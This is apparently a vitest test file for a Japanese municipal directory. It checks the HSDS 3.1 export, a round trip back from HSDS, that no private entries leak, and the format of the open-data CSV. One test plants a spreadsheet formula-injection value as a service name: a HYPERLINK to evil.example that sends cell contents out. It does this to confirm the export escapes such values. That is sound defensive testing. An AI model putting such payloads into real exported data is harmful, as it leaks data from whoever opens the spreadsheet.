// The directory as HSDS 3.1 JSON and as open data: valid against HSDS's own schemas (vendored, ajv strict) and the
// profile, a round trip, and — over generated directories — never a private entry or a private field.
import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { Ajv, type ValidateFunction } from 'ajv';
import addFormats from 'ajv-formats';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  directoryFromHsds,
  directoryToHsds,
  directoryToOpenDataCsv,
  OPEN_DATA_COLUMNS,
  parseDirectory,
  publicDirectory,
  type Directory,
} from '@tsunagu/core/directory';
import { generateDirectory, townDirectory } from '../fixtures/directory';

const folder = fileURLToPath(new URL('../fixtures/hsds/', import.meta.url));

/** HSDS's own keywords, for the tabular form and its docs: annotations that validate nothing. */
const HSDS_KEYWORDS = ['name', 'constraints', 'core', 'example', 'datapackage_metadata', 'datapackage_type', 'tabular_required', 'path'];

function hsdsValidators(): Record<'organization' | 'service' | 'location', ValidateFunction> {
  const ajv = new Ajv({ strict: true, allErrors: true });
  addFormats(ajv);
  ajv.addVocabulary(HSDS_KEYWORDS);
  for (const file of readdirSync(folder).filter((f) => f.endsWith('.json'))) {
    ajv.addSchema(JSON.parse(readFileSync(folder + file, 'utf8')), file);
  }
  return {
    organization: ajv.getSchema('organization.json')!,
    service: ajv.getSchema('service.json')!,
    location: ajv.getSchema('location.json')!,
  };
}

const validators = hsdsValidators();

function hsdsErrors(directory: Directory): string[] {
  const hsds = directoryToHsds(directory);
  const errors: string[] = [];
  for (const [kind, list] of [
    ['organization', hsds.organizations],
    ['service', hsds.services],
    ['location', hsds.locations],
  ] as const) {
    list.forEach((o, i) => {
      if (!validators[kind](o)) errors.push(`${kind}[${i}]: ${JSON.stringify(validators[kind].errors)}`);
    });
  }
  return errors;
}

/** Every private thing of a directory rewritten to hold a marker no public text holds: 秘 and its number. */
function markPrivate(d: Directory): Directory {
  let n = 0;
  const mark = () => `秘${++n}`;
  const privateOrgs = new Set(d.organizations.filter((o) => o.private).map((o) => o.id));
  return {
    organizations: d.organizations.map((o) => (o.private ? { ...o, name: mark(), description: mark(), phone: mark() } : o)),
    locations: (d.locations ?? []).map((l) =>
      l.private ? { ...l, name: mark(), address: { prefecture: mark(), city: mark(), street: mark(), building: mark() } } : l,
    ),
    services: d.services.map((s) => {
      const hidden = s.private || privateOrgs.has(s.organizationId);
      const contact = { ...s.contact, personName: mark(), ...(hidden ? { phone: mark() } : {}) };
      return hidden ? { ...s, name: mark(), description: mark(), contact, internalNote: mark() } : { ...s, contact, internalNote: mark() };
    }),
    individuals: (d.individuals ?? []).map((p) => ({ ...p, name: mark(), role: mark(), phone: mark(), note: mark() })),
  };
}

describe('the HSDS export', () => {
  it('is valid against HSDS 3.1’s own schemas, in ajv strict mode, for the town’s directory', () => {
    expect(parseDirectory(townDirectory)).toMatchObject({ ok: true });
    const hsds = directoryToHsds(townDirectory);
    expect(hsds.services.length).toBeGreaterThan(100);
    expect(hsdsErrors(townDirectory)).toEqual([]);
  });

  it('refuses what HSDS refuses: the validators are not empty (a service without a status, an id that is no UUID)', () => {
    const { services } = directoryToHsds(townDirectory);
    const { status: _status, ...noStatus } = services[0]!;
    expect(validators.service(noStatus)).toBe(false);
    expect(validators.service({ ...services[0]!, id: 'svc-1' })).toBe(false);
    expect(validators.service({ ...services[0]!, capacities: [{ id: services[0]!.id }] })).toBe(false);
  });

  it('carries capacity, hours, areas and the last confirmation as HSDS 3.1 fields', () => {
    const withCapacity = townDirectory.services.find((s) => s.capacity && !s.private)!;
    const out = directoryToHsds({ ...townDirectory, services: [withCapacity] }).services[0]!;
    expect(out).toMatchObject({
      assured_date: withCapacity.lastConfirmed,
      capacities: [
        {
          available: withCapacity.capacity!.available,
          maximum: withCapacity.capacity!.maximum,
          unit: { name: withCapacity.capacity!.unit },
        },
      ],
      schedules: [{ freq: 'WEEKLY', byday: withCapacity.hours![0]!.days.join(','), opens_at: withCapacity.hours![0]!.opens }],
      service_areas: withCapacity.areas.map((a) => ({ name: a.name })),
    });
  });

  it('reads back what it wrote: the public directory, unchanged', () => {
    const back = directoryFromHsds(JSON.parse(JSON.stringify(directoryToHsds(townDirectory))));
    expect(parseDirectory(back)).toMatchObject({ ok: true });
    expect(back).toEqual(publicDirectory(townDirectory));
  });

  it('reads services with their organization and places nested, as an HSDS API returns them', () => {
    const hsds = directoryToHsds(townDirectory);
    const org = new Map(hsds.organizations.map((o) => [o.id, o]));
    const loc = new Map(hsds.locations.map((l) => [l.id, l]));
    const nested = hsds.services.map((s) => {
      const { organization_id, ...rest } = s;
      const ats = (s.service_at_locations as { location_id: string }[] | undefined) ?? [];
      return {
        ...rest,
        organization: org.get(organization_id as string)!,
        service_at_locations: ats.map((a) => ({ ...a, location: loc.get(a.location_id)! })),
      };
    });
    expect(nested.every((s) => validators.service(s))).toBe(true);
    const back = directoryFromHsds({ services: nested });
    expect(new Set(back.organizations.map((o) => o.id))).toEqual(
      new Set(publicDirectory(townDirectory).services.map((s) => s.organizationId)),
    );
    expect(back.services).toEqual(publicDirectory(townDirectory).services);
  });
});

describe('privacy by construction', () => {
  it('a 500-entry directory: no private entry, individual or private field in HSDS JSON or CSV', () => {
    const d = markPrivate(generateDirectory(500, 7, { privateShare: 0.2, individuals: 60 }));
    expect(d.services.filter((s) => s.private).length, 'private services generated').toBeGreaterThan(50);
    const text = JSON.stringify(directoryToHsds(d)) + directoryToOpenDataCsv(d, { code: '162051', name: 'みなと市' });
    expect(text.match(/秘\d+/gu) ?? []).toEqual([]);
    expect(hsdsErrors(d)).toEqual([]);
  });

  it('holds for any generated directory and any share of private entries (fast-check)', () => {
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 80 }), fc.integer(), fc.double({ min: 0, max: 1, noNaN: true }), (n, seed, share) => {
        const d = markPrivate(generateDirectory(n, seed, { privateShare: share, individuals: 5 }));
        const text = JSON.stringify(directoryToHsds(d)) + directoryToOpenDataCsv(d, { code: '162051', name: 'みなと市' });
        expect(text).not.toMatch(/秘\d+/u);
        // …and everything public is still there: every service that is not private and whose organization is not.
        const privateOrgs = new Set(d.organizations.filter((o) => o.private).map((o) => o.id));
        const published = d.services.filter((s) => !s.private && !privateOrgs.has(s.organizationId)).map((s) => s.id);
        expect(directoryToHsds(d).services.map((s) => s.id)).toEqual(published);
      }),
      { numRuns: 200 },
    );
  });
});

describe('open data as 自治体標準オープンデータセット 「公共施設一覧」', () => {
  const csv = directoryToOpenDataCsv(townDirectory, { code: '162051', name: 'みなと市' });
  const lines = csv.slice(1).split('\r\n').filter(Boolean);

  it('has the dataset’s columns, a BOM, CRLF, and one row per published service and place', () => {
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(lines[0]).toBe(OPEN_DATA_COLUMNS.join(','));
    const open = publicDirectory(townDirectory);
    expect(lines.length - 1).toBe(open.services.reduce((n, s) => n + Math.max(1, s.locationIds?.length ?? 0), 0));
    expect(lines[1]!.split(',')[0]).toBe('162051');
  });

  it('cannot attack the spreadsheet that opens it: a name typed as a formula stays text', () => {
    const evil: Directory = {
      ...townDirectory,
      services: [
        { ...townDirectory.services.find((s) => !s.private)!, name: '=HYPERLINK("http://evil.example/"&A1,"詳細")', private: false },
      ],
      organizations: townDirectory.organizations.map((o) => ({ ...o, private: false })),
    };
    const out = directoryToOpenDataCsv(evil, { code: '162051', name: 'みなと市' });
    expect(out).toContain(`"'=HYPERLINK(""http://evil.example/""&A1,""詳細"")"`);
  });
});
